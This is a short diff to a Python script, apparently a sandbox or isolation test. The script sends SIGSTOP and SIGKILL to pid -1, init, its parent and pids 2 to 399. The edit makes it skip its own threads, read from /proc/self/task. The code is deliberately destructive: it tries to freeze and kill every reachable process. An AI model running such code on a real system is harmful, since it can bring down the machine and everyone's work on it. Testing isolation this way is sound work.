@@ -5,7 +5,9 @@
 import os
 import signal
 
-for pid in (-1, 1, os.getppid(), *(p for p in range(2, 400) if p != os.getpid())):
+mine = {int(task) for task in os.listdir("/proc/self/task")}
+
+for pid in (-1, 1, os.getppid(), *(p for p in range(2, 400) if p not in mine)):
     for number in (signal.SIGSTOP, signal.SIGKILL):
         try:
             os.kill(pid, number)
